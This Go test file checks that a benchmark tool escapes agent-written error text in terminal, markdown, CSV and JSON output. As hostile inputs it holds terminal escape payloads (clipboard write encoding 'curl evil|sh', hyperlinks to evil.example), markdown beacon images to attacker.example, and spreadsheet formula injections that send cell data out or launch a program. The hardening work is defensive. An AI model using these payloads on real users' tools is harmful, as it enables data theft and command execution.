package main

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"
	"time"

	"github.com/wfbench/wfb"
	"github.com/wfbench/wfb/store"
)

// hostileFile writes a results file holding one failed attempt whose
// error detail (text the agent controls) is detail, in run "hostile".
func hostileFile(t *testing.T, detail string) string {
	t.Helper()
	ctx := context.Background()
	path, db := newResultsFile(t)
	defer db.Close()
	start := time.Date(2026, 12, 1, 2, 0, 0, 0, time.UTC)
	if err := db.CreateRun(ctx, store.Run{ID: "hostile", Kind: "run", StartedAt: start, Status: wfb.RunComplete,
		Fingerprint: "fp", Harness: "test"}); err != nil {
		t.Fatal(err)
	}
	r := store.Result{RunID: "hostile", AttemptID: "att-h", Task: "t", Arm: "a", Attempt: 1, Agent: "stand-in",
		Sandbox: "host-unsafe", StartedAt: start, ProcessState: wfb.StateExited,
		ErrorKind: wfb.KindSessionError, ErrorDetail: detail}
	if err := db.InsertResult(ctx, &r); err != nil {
		t.Fatal(err)
	}
	return path
}

// terminalDrivers is agent text that drives a terminal printed raw: a
// colour, an OSC 8 hyperlink, an OSC 52 clipboard write, a carriage
// return that overwrites the line, a C1 CSI (U+009B) and a right-to-left
// override.
const terminalDrivers = "red \x1b[31mX\x1b[0m link \x1b]8;;http://evil.example\x1b\\here\x1b]8;;\x1b\\ " +
	"clip \x1b]52;c;Y3VybCBldmlsfHNo\x07 over\rOK \u009b2J rtl \u202egnp.exe"

// TestNoOutputFormatLetsAgentTextDriveTheTerminal stops an error detail
// from moving the cursor, setting the clipboard (OSC 52), planting a
// hyperlink (OSC 8) or reversing text (U+202E) when `wfb sql` or `wfb
// export` prints it in any format: only the box table showed controls; tsv
// (what a pipe into less -R or a CI log gets), markdown and csv wrote them
// raw, and json left C1 controls and bidi overrides raw.
func TestNoOutputFormatLetsAgentTextDriveTheTerminal(t *testing.T) {
	db := hostileFile(t, terminalDrivers)
	outputs := map[string]string{}
	for _, f := range []string{"table", "tsv", "markdown", "csv", "json"} {
		out, errOut, code := wfbCmd(t, "sql", "--db", db, "--format", f, "SELECT error_detail FROM results")
		if code != exitOK {
			t.Fatalf("sql --format %s: exit %d: %s", f, code, errOut)
		}
		outputs["sql "+f] = out
	}
	for _, f := range []string{"csv", "jsonl"} {
		out, errOut, code := wfbCmd(t, "export", "hostile", "--db", db, "--format", f)
		if code != exitOK {
			t.Fatalf("export --format %s: exit %d: %s", f, code, errOut)
		}
		outputs["export "+f] = out
	}
	for name, out := range outputs {
		for _, bad := range []string{"\x1b", "\x07", "\u009b", "\u202e", "over\rOK"} {
			if strings.Contains(out, bad) {
				t.Errorf("%s prints %q raw:\n%q", name, bad, out)
			}
		}
	}
	// Shown, not dropped: each format shows the escape its own way.
	for name, want := range map[string]string{"sql tsv": `\x1b]52;c;`, "sql markdown": "clip ␛", "sql csv": "␛]8;;http",
		"export csv": "over␍OK", "sql json": `\u001b]52;c;`, "export jsonl": `\u202egnp.exe`} {
		if !strings.Contains(outputs[name], want) {
			t.Errorf("%s does not show %q:\n%s", name, want, outputs[name])
		}
	}
	// JSON escapes are lossless: a program decodes the text the agent wrote.
	var rows []map[string]string
	if err := json.Unmarshal([]byte(outputs["sql json"]), &rows); err != nil || len(rows) != 1 || rows[0]["error_detail"] != terminalDrivers {
		t.Errorf("sql json decodes to %q (%v), want the detail as written", rows, err)
	}
}

// TestAMarkdownReportFetchesNothingAnAgentLinked stops an error detail
// pasted into a PR as `wfb sql --format markdown` from making every viewer
// fetch an image from the agent's host (![](url)), or from showing a link
// whose words hide where it goes ([text](url)): only |, < and > were
// escaped.
func TestAMarkdownReportFetchesNothingAnAgentLinked(t *testing.T) {
	db := hostileFile(t, "see ![chart](https://attacker.example/beacon.png) and [the docs](javascript:alert(1)) or [ref][1]")
	out, errOut, code := wfbCmd(t, "sql", "--db", db, "--format", "markdown", "SELECT error_detail FROM results")
	if code != exitOK {
		t.Fatalf("sql: exit %d: %s", code, errOut)
	}
	for _, bad := range []string{"![chart](", "[the docs](", "[ref][1]"} {
		if strings.Contains(out, bad) {
			t.Errorf("markdown holds link syntax %q:\n%s", bad, out)
		}
	}
	if want := `!\[chart\](https://attacker.example/beacon.png)`; !strings.Contains(out, want) {
		t.Errorf("markdown does not show the text as written (%q):\n%s", want, out)
	}
}

// TestACSVExportOpensWithoutRunningAnAgentsFormula stops a spreadsheet
// from running an error detail as a formula when `wfb export` or `wfb sql`
// CSV is opened (=HYPERLINK sends data off; =cmd|… runs a program on old
// Excel): a text cell starting with = + - @ or a tab gets a leading ';
// text that is a number keeps its sign.
func TestACSVExportOpensWithoutRunningAnAgentsFormula(t *testing.T) {
	for _, tc := range []struct{ detail, want string }{
		{`=HYPERLINK("http://attacker.example/?d="&A1,"help")`, `'=HYPERLINK("http://attacker.example/?d="&A1,"help")`},
		{`@SUM(1+1)*cmd|' /C calc'!A0`, `'@SUM(1+1)*cmd|' /C calc'!A0`},
		{`+1+cmd|' /C calc'!A0`, `'+1+cmd|' /C calc'!A0`},
		{`-2+3+cmd|' /C calc'!A0`, `'-2+3+cmd|' /C calc'!A0`},
		{"\t=1+1", "'\t=1+1"},
		{"-12.5", "-12.5"},
		{"exit status 1", "exit status 1"},
	} {
		t.Run(tc.detail, func(t *testing.T) {
			db := hostileFile(t, tc.detail)
			for _, args := range [][]string{
				{"export", "hostile", "--db", db, "--format", "csv"},
				{"sql", "--db", db, "--format", "csv", "SELECT error_detail FROM results"},
			} {
				out, errOut, code := wfbCmd(t, args...)
				if code != exitOK {
					t.Fatalf("%s: exit %d: %s", args[0], code, errOut)
				}
				recs, err := csv.NewReader(strings.NewReader(out)).ReadAll()
				if err != nil || len(recs) != 2 {
					t.Fatalf("%s: %d records (%v):\n%s", args[0], len(recs), err, out)
				}
				col := -1
				for i, name := range recs[0] {
					if name == "error_detail" {
						col = i
					}
				}
				if col < 0 || recs[1][col] != tc.want {
					t.Errorf("%s: error_detail cell %q, want %q", args[0], recs[1][max(col, 0)], tc.want)
				}
			}
		})
	}
}

// TestRunsLogLinesShowControlsInAFailuresDetail stops `wfb run`'s line
// per attempt (what a CI log or a terminal behind tee gets) from writing a
// failure's detail raw: a verify command's output (what the agent left in
// the workspace) set the clipboard, overwrote the line, reversed text.
func TestRunsLogLinesShowControlsInAFailuresDetail(t *testing.T) {
	bench, db := runFixture(t, runOKScript, `runs: 1
sandbox: host-unsafe
provider: {mock: replies.yaml}
tasks: [{id: t, workspace: ws, prompt: p, verify: 'printf "clip \033]52;c;Y3VybA==\007 over\rOK rtl \342\200\256gnp.exe"; exit 1'}]
arms: [{id: a, agent: stand-in}]
`)
	_, errOut, code := wfbCmd(t, "run", bench, "--db", db)
	if code != exitOK {
		t.Fatalf("exit %d:\n%s", code, errOut)
	}
	for _, bad := range []string{"\x1b", "\x07", "\r", "\u202e"} {
		if strings.Contains(errOut, bad) {
			t.Errorf("the log writes %q raw:\n%q", bad, errOut)
		}
	}
	if want := "clip ␛]52;c;Y3VybA==␇ over␍OK rtl \\u202egnp.exe"; !strings.Contains(errOut, want) {
		t.Errorf("the log does not show the detail (%q):\n%s", want, errOut)
	}
}
